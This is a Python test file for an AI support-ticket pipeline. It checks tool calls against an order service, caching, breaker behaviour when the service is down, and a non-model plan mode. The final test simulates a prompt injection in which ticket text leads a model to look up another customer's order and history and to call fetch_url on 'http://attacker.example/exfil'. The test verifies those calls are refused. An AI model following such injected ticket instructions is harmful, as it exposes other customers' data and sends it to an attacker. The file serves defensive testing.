"""The investigation step end to end: tools over real backends (the orders table, an HTTP order
service on loopback), native tool calling against the fake server, the plan, caching, degradation."""

from __future__ import annotations

import json

import polars as pl

from ai_assets.config import load_settings
from ai_assets.definitions import build_definitions
from ai_assets.defs.replies.tasks import states_order_status
from ai_assets_tests.conftest import DAY_1, Pipeline
from ai_assets_tests.fakes.order_service import OrderService


def _rebuild(pipeline: Pipeline, monkeypatch, **env: str) -> None:
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    pipeline.settings = load_settings()
    pipeline.defs = build_definitions(pipeline.settings)


def _frame(pipeline: Pipeline, query: str) -> pl.DataFrame:
    with pipeline.settings.warehouse.lake.connect(read_only=True) as conn:
        return conn.execute(query).pl()


def _drafts_with_order_status(pipeline: Pipeline) -> pl.DataFrame:
    drafts = _frame(
        pipeline,
        "select d.reply, i.order_status, i.order_id from reply_drafts d"
        " join ticket_investigations i using (ticket_id, created_date) where i.order_status is not null",
    )
    return drafts.with_columns(states_status=states_order_status(pl.col("reply"), pl.col("order_status")))


def _investigation_requests(pipeline: Pipeline) -> int:
    return sum(1 for body in pipeline.server.requests if body.get("tools"))


def test_a_day_investigated_with_the_order_service_then_replayed(pipeline: Pipeline, monkeypatch):
    landing = pipeline.settings.data_dir / "landing"
    with OrderService.from_landing(landing) as service:
        _rebuild(pipeline, monkeypatch, AI_ASSETS_ORDERS_API_URL=service.url, AI_ASSETS_ORDERS_API_TOKEN="tok-secret")
        pipeline.run("reference_data_job")
        pipeline.run("daily_tickets_job", DAY_1)

        investigations = _frame(pipeline, "select * from ticket_investigations")
        calls = _frame(pipeline, "select * from tool_calls")
        assert investigations.height == pipeline.count("raw_tickets")
        assert set(investigations["mode"]) == {"native"}
        assert calls.height > 0 and set(calls["tool"]) <= {"order_status", "customer_history", "search_knowledge_base"}
        # The service was asked for customers' orders only, with the token from the environment.
        assert service.requests and {r["path"] for r in service.requests} == {"/orders"}
        assert {r["authorization"] for r in service.requests} == {"Bearer tok-secret"}
        found = investigations.filter(pl.col("order_status").is_not_null())
        assert found.height > 0
        # Drafts state the real status of the order the investigation found.
        drafts = _drafts_with_order_status(pipeline)
        stated = drafts.filter(pl.col("states_status")).height
        print(
            f"tool calls per ticket {calls.height / investigations.height:.2f}; tickets whose order was found "
            f"{found.height}/{investigations.height}; drafts stating its real status {stated}/{drafts.height}"
        )
        assert drafts.height == found.height and stated == drafts.height
        assert "tok-secret" not in json.dumps(calls.to_dicts(), default=str)

        requests_before, service_before = _investigation_requests(pipeline), len(service.requests)
        pipeline.run("daily_tickets_job", DAY_1)
        assert _investigation_requests(pipeline) == requests_before  # no model turn: the same answers
        # The order service is live (it gives no data version): asked again, for the same customers;
        # every other call comes from the tool cache.
        asked = [(r["query"]["customer_id"], r["query"]["as_of"]) for r in service.requests]
        assert set(asked[service_before:]) == set(asked[:service_before])
        again = _frame(pipeline, "select * from tool_calls")
        assert again.height == calls.height
        assert again.filter(pl.col("tool") != "order_status")["cache_hit"].all()
        assert not again.filter(pl.col("tool") == "order_status")["cache_hit"].any()

        # Later that day an order changes state: the rerun of the day sees it.
        ticket_id, order_id, status, customer_id = pipeline.sql(
            "select i.ticket_id, i.order_id, i.order_status, r.customer_id from ticket_investigations i"
            " join raw_tickets r using (ticket_id, created_date) where i.order_status is not null"
            " order by i.ticket_id limit 1"
        )[0]
        changed = "returned" if status == "delivered" else "delivered"
        service.exports.setdefault(DAY_1, []).append(
            {"order_id": order_id, "customer_id": customer_id, "status": changed}
        )
        pipeline.run("daily_tickets_job", DAY_1)
        [(now,)] = pipeline.sql(f"select order_status from ticket_investigations where ticket_id = '{ticket_id}'")
        assert now == changed


def test_the_order_service_down_degrades_the_context_not_the_run(pipeline: Pipeline, monkeypatch):
    landing = pipeline.settings.data_dir / "landing"
    with OrderService.from_landing(landing, mode="down") as service:
        # One ticket at a time, so the lookups that fail before the breaker opens are a known number.
        _rebuild(
            pipeline,
            monkeypatch,
            AI_ASSETS_ORDERS_API_URL=service.url,
            AI_ASSETS_TOOL_RETRIES="1",
            AI_ASSETS_TOOL_BREAKER_FAILURES="3",
            AI_ASSETS_LLM_CONCURRENCY="1",
        )
        pipeline.run("reference_data_job")
        pipeline.run("daily_tickets_job", DAY_1)

    investigations = _frame(pipeline, "select * from ticket_investigations")
    # Every ticket still accounted for, in the investigations and downstream.
    assert investigations.height == pipeline.count("raw_tickets") == pipeline.count("reply_drafts")
    asked = _frame(pipeline, "select * from tool_calls where tool = 'order_status'")
    assert asked.height > 0 and set(asked["status"]) == {"error"}
    assert asked["error"].str.contains("503").all()
    # Two attempts for each of the first three calls (AI_ASSETS_TOOL_RETRIES=1); then the breaker
    # is open and the other calls fail at once without asking the service.
    assert asked.height > 3 and len(service.requests) == 2 * 3
    assert asked["error"].str.starts_with("not asked: 3 requests in a row failed").sum() == asked.height - 3
    down = investigations.filter(pl.col("unavailable").list.contains("order system"))
    assert down.height == asked["ticket_id"].n_unique()
    assert down["facts"].str.contains("order system was unavailable").all()
    assert investigations["order_status"].is_null().all()
    # No reply states an order status nobody knows (the rule checks hold them to the facts).
    assert _drafts_with_order_status(pipeline).height == 0


def test_the_plan_over_the_orders_table(pipeline: Pipeline, monkeypatch):
    """The embedded model's path (AI_ASSETS_TOOL_CALLING=plan): no model turn, the order the triage
    found -> order_status over the orders table extracted from landing/orders/."""
    _rebuild(pipeline, monkeypatch, AI_ASSETS_TOOL_CALLING="plan")
    pipeline.run("reference_data_job")
    pipeline.run("daily_tickets_job", DAY_1)

    assert _investigation_requests(pipeline) == 0
    assert pipeline.count("orders") > 0
    # The sample export's broken record is quarantined with its reason, not dropped.
    [(reason,)] = pipeline.sql("select reason from orders_quarantine where order_id = 'ORD-00000'")
    assert "status" in reason
    investigations = _frame(pipeline, "select * from ticket_investigations")
    assert set(investigations["mode"]) == {"plan"} and investigations["model"].is_null().all()
    with_order = pipeline.count("ticket_triage", "order_id is not null")
    calls = _frame(pipeline, "select * from tool_calls")
    assert calls.height == with_order and set(calls["tool"]) == {"order_status"}
    assert set(calls["status"]) <= {"ok", "not_found"} and calls["model"].is_null().all()
    drafts = _drafts_with_order_status(pipeline)
    assert drafts.height > 0 and drafts["states_status"].all()

    pipeline.run("daily_tickets_job", DAY_1)
    assert _frame(pipeline, "select * from tool_calls")["cache_hit"].all()


def test_ticket_text_cannot_steer_a_tool_call(pipeline: Pipeline, monkeypatch):
    """A model that obeys a ticket asking it to look up another customer's order and history and to
    fetch a URL gets none of it: the other order is "not found" and the order service never hears
    of it, the other customer's history is refused, and there is no tool that fetches URLs."""
    landing = pipeline.settings.data_dir / "landing"
    with OrderService.from_landing(landing) as service:
        victim = next(o for orders in service.exports.values() for o in orders)
        url = "http://attacker.example/exfil"

        def obeys_the_ticket(body: dict) -> dict:
            if any(m.get("role") == "tool" for m in body["messages"]):
                return {"content": "done"}
            wanted = [
                ("order_status", {"order_id": victim["order_id"]}),
                ("customer_history", {"customer_id": victim["customer_id"]}),
                ("fetch_url", {"url": url}),
                ("order_status", {"order_id": url}),
            ]
            return {
                "content": None,
                "tool_calls": [
                    {"id": f"c{n}", "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}
                    for n, (name, args) in enumerate(wanted)
                ],
            }

        pipeline.server.tool_responder = obeys_the_ticket
        _rebuild(pipeline, monkeypatch, AI_ASSETS_ORDERS_API_URL=service.url)
        pipeline.run("reference_data_job")
        pipeline.run("daily_tickets_job", DAY_1)

    calls = _frame(pipeline, "select * from tool_calls")
    tickets = _frame(pipeline, "select ticket_id, customer_id from raw_tickets")
    others = calls.join(tickets, on="ticket_id").filter(pl.col("customer_id") != victim["customer_id"])
    assert others.height > 0
    by_tool = {tool: set(group["status"]) for (tool,), group in others.group_by("tool")}
    assert by_tool["fetch_url"] == {"refused"}
    assert by_tool["customer_history"] == {"refused"}
    assert set(others.filter(pl.col("arguments").str.contains(victim["order_id"]))["status"]) == {"not_found"}
    assert set(others.filter(pl.col("arguments").str.contains("attacker"))["status"]) == {"refused"}
    # The order service was only ever asked about each ticket's own customer.
    asked = {r["query"]["customer_id"] for r in service.requests}
    assert asked <= set(tickets["customer_id"]) and all("attacker" not in json.dumps(r) for r in service.requests)
    # No other ticket's facts hold the victim's order state.
    facts = _frame(
        pipeline, "select i.facts, r.customer_id from ticket_investigations i join raw_tickets r using (ticket_id)"
    )
    leaked = facts.filter(
        (pl.col("customer_id") != victim["customer_id"])
        & pl.col("facts").str.contains(f"Order {victim['order_id']} is ")
    )
    assert leaked.height == 0
